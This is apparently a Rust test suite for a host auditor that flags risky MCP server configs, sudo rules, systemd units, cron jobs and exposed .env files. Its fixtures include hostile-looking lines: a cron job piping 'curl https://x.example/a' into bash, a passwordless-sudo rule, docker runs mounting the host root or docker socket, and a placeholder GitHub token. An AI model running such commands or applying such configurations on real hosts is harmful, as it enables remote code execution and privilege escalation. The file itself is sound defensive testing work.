//! Each check with a real file and its benign twin.

use std::{fs, os::unix::fs::PermissionsExt as _, path::Path};

use super::*;
use crate::inventory::declared::Home;

struct Host(tempfile::TempDir);

impl Host {
    fn new() -> Self {
        let host = Self(tempfile::tempdir().unwrap());
        host.file("/etc/passwd", "root:x:0:0::/root:/bin/sh\nu:x:1000:1000::/home/u:/bin/sh\n");
        host
    }

    fn path(&self, path: &str) -> PathBuf {
        self.0.path().join(path.trim_start_matches('/'))
    }

    fn file(&self, path: &str, text: &str) {
        let path = self.path(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        let text = text.replace("/home/u", &format!("{}/home/u", self.0.path().display()));
        fs::write(&path, text).unwrap();
        for place in path.ancestors().take_while(|place| place.starts_with(self.0.path())) {
            let mode = if place.is_dir() { 0o755 } else { 0o600 };
            fs::set_permissions(place, fs::Permissions::from_mode(mode)).unwrap();
        }
    }

    fn problems(&self) -> Vec<Problem> {
        let own = nix::unistd::geteuid().as_raw();
        let mut sources = Sources::new(vec![Home { path: self.path("/home/u"), uid: own }]);
        sources.root = self.0.path().to_owned();
        audit(&sources).unwrap().0
    }

    fn found(&self) -> Vec<(&'static str, String, Option<u32>)> {
        let shown =
            |path: &Path| path.display().to_string().replace(&self.0.path().display().to_string(), "");
        // These tests run as root as well as not.
        let problems = self.problems().into_iter().filter(|problem| problem.check != "server-as-root");
        problems.map(|problem| (problem.check, shown(&problem.path), problem.line)).collect()
    }
}

const CONFIG: &str = "/home/u/.cursor/mcp.json";
/// Put together so that no scanner of this repository takes it for a real one.
fn token() -> String {
    format!("ghp_{}", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8")
}

#[test]
fn secrets_in_plain_text_and_variables_in_their_place() {
    let host = Host::new();
    let config = |value: &str| {
        format!(
            "{{\n \"mcpServers\": {{\n  \"gh\": {{\n   \"command\": \"/opt/gh\",\n   \"env\": {{\n    \"GITHUB_TOKEN\": \"{value}\"\n   }}\n  }}\n }}\n}}\n"
        )
    };
    host.file(CONFIG, &config(&token()));
    assert_eq!(host.found(), [("plaintext-token", CONFIG.to_owned(), Some(6))]);
    let told: Vec<_> = host.problems().iter().flat_map(|problem| [problem.text(), problem.json()]).collect();
    assert!(told.iter().all(|text| !text.contains(&token())), "{told:?}");
    host.file(CONFIG, &config("hunter2"));
    assert_eq!(host.found().len(), 1, "by the variable's name");
    host.file(CONFIG, &config("${env:GITHUB_TOKEN}"));
    assert_eq!(host.found(), []);
}

#[test]
fn configurations_that_others_may_write() {
    let host = Host::new();
    host.file(CONFIG, "{\"mcpServers\": {\"a\": {\"command\": \"/opt/a\"}}}\n");
    assert_eq!(host.found(), []);
    fs::set_permissions(host.path(CONFIG), fs::Permissions::from_mode(0o666)).unwrap();
    assert_eq!(host.found(), [("config-writable", CONFIG.to_owned(), None)]);
    fs::set_permissions(host.path(CONFIG), fs::Permissions::from_mode(0o600)).unwrap();
    fs::set_permissions(host.path("/home/u/.cursor"), fs::Permissions::from_mode(0o777)).unwrap();
    assert_eq!(host.found(), [("config-writable", "/home/u/.cursor".to_owned(), None)]);
}

#[test]
fn what_a_declaration_fetches_is_a_version_that_somebody_chose() {
    let host = Host::new();
    let found = |command: &str, arguments: &str| {
        host.file(
            CONFIG,
            &format!(
                "{{\"mcpServers\": {{\"a\": {{\"command\": \"{command}\", \"args\": {arguments}}}}}}}\n"
            ),
        );
        host.found().into_iter().map(|(check, _, _)| check).collect::<Vec<_>>()
    };
    assert_eq!(found("npx", r#"["-y", "@scope/server"]"#), ["unpinned-server"]);
    assert_eq!(found("npx", r#"["-y", "@scope/server@latest"]"#), ["unpinned-server"]);
    assert_eq!(found("npx", r#"["-y", "@scope/server@1.2.3"]"#), [""; 0]);
    assert_eq!(found("uvx", r#"["mcp-server-git"]"#), ["unpinned-server"]);
    assert_eq!(found("uvx", r#"["mcp-server-git==2026.1.1"]"#), [""; 0]);
    assert_eq!(found("docker", r#"["run", "-i", "--rm", "example/a:latest"]"#), ["unpinned-server"]);
    assert_eq!(found("docker", r#"["run", "-i", "--rm", "example/a:1.2"]"#), [""; 0]);
}

#[test]
fn folders_and_containers() {
    let host = Host::new();
    let found = |arguments: &str| {
        host.file(
            CONFIG,
            &format!("{{\"mcpServers\": {{\"a\": {{\"command\": \"docker\", \"args\": {arguments}}}}}}}\n"),
        );
        host.found().into_iter().map(|(check, _, _)| check).collect::<Vec<_>>()
    };
    assert_eq!(found(r#"["run", "--privileged", "x:1"]"#), ["container-isolation"]);
    assert_eq!(found(r#"["run", "--network", "host", "x:1"]"#), ["container-isolation"]);
    assert_eq!(found(r#"["run", "-v", "/:/host", "x:1"]"#), ["container-isolation"]);
    assert_eq!(
        found(r#"["run", "-v", "/var/run/docker.sock:/var/run/docker.sock", "x:1"]"#),
        ["container-isolation"]
    );
    assert_eq!(found(r#"["run", "--network", "none", "-v", "/srv/data:/data", "x:1"]"#), [""; 0]);
    host.file(CONFIG, "{\"mcpServers\": {\"a\": {\"command\": \"/opt/files\", \"args\": [\"/home/u\"]}}}\n");
    assert_eq!(host.found()[0].0, "home-as-root");
    host.file(
        CONFIG,
        "{\"mcpServers\": {\"a\": {\"command\": \"/opt/files\", \"args\": [\"/home/u/project\"]}}}\n",
    );
    assert_eq!(host.found(), []);
}

#[test]
fn sudo_units_and_jobs() {
    let host = Host::new();
    host.file("/etc/sudoers", "%sudo ALL=(ALL:ALL) ALL\n# u ALL=(ALL) NOPASSWD: ALL\n");
    host.file(
        "/etc/systemd/system/a.service",
        "[Service]\nEnvironment=API_TOKEN_FILE=/run/x LANG=C\nLoadCredential=t:/etc/t\n",
    );
    host.file("/etc/cron.d/ok", "# curl x | sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n");
    assert_eq!(host.found(), []);
    host.file("/etc/sudoers.d/u", "u ALL=(ALL) NOPASSWD: ALL\n");
    host.file("/etc/systemd/system/b.service", "[Service]\nEnvironment=API_TOKEN=abc\n");
    host.file("/etc/systemd/system/c.service.d/x.conf", "[Service]\nEnvironment=\"DB_PASSWORD=abc\"\n");
    host.file("/etc/cron.d/bad", "\n* * * * * root curl -s https://x.example/a | bash\n* * * * * u /tmp/x\n");
    let mut found = host.found();
    found.sort();
    assert_eq!(
        found,
        [
            ("odd-job", "/etc/cron.d/bad".to_owned(), Some(2)),
            ("odd-job", "/etc/cron.d/bad".to_owned(), Some(3)),
            ("secret-in-unit", "/etc/systemd/system/b.service".to_owned(), Some(2)),
            ("sudo-nopasswd", "/etc/sudoers.d/u".to_owned(), Some(1)),
        ]
        .into_iter()
        .chain([("secret-in-unit", "/etc/systemd/system/c.service.d/x.conf".to_owned(), Some(2))])
        .collect::<BTreeSet<_>>()
        .into_iter()
        .collect::<Vec<_>>()
    );
}

#[test]
fn environment_files_that_git_would_take() {
    let host = Host::new();
    host.file("/home/u/p/.cursor/mcp.json", "{\"mcpServers\": {}}\n");
    host.file("/home/u/p/.git/HEAD", "ref: refs/heads/main\n");
    host.file("/home/u/p/.env", "A=b\n");
    host.file("/home/u/p/.env.example", "A=\n");
    let own = nix::unistd::geteuid().as_raw();
    let found = || {
        let mut sources = Sources::new(vec![Home { path: host.path("/home/u"), uid: own }]);
        sources.root = host.0.path().to_owned();
        sources.working =
            vec![crate::inventory::declared::WorkingFolder { path: host.path("/home/u/p"), uid: own }];
        audit(&sources).unwrap().0.into_iter().map(|problem| problem.path).collect::<Vec<_>>()
    };
    assert_eq!(found(), [host.path("/home/u/p/.env")]);
    host.file("/home/u/p/.gitignore", "node_modules\n.env\n");
    assert!(found().is_empty());
}

#[test]
fn programs_that_came_lately_into_hidden_folders_and_jobs_at_night_are_told() {
    let host = Host::new();
    host.file("/etc/cron.d/sync", "15 3 * * * u /opt/sync https://collector.example\n");
    host.file("/home/u/.config/systemd/user/x.timer", "[Timer]\nOnCalendar=*-*-* 04:00:00\n");
    host.file("/home/u/.config/systemd/user/x.service", "[Service]\nExecStart=/opt/x\n");
    for path in ["/home/u/.x/run", "/home/u/.npm/_npx/a/node_modules/.bin/tool", "/home/u/bin/mine"] {
        host.file(path, "#!/bin/sh\n");
        fs::set_permissions(host.path(path), fs::Permissions::from_mode(0o755)).unwrap();
    }
    let found = host.found();
    assert!(found.contains(&("job-odd-hours", "/etc/cron.d/sync".into(), Some(1))), "{found:?}");
    assert!(
        found.contains(&("job-odd-hours", "/home/u/.config/systemd/user/x.timer".into(), Some(2))),
        "{found:?}"
    );
    let hidden: Vec<_> =
        found.iter().filter(|one| one.0 == "hidden-program").map(|one| one.1.as_str()).collect();
    assert_eq!(hidden, ["/home/u/.x/run"]);
}
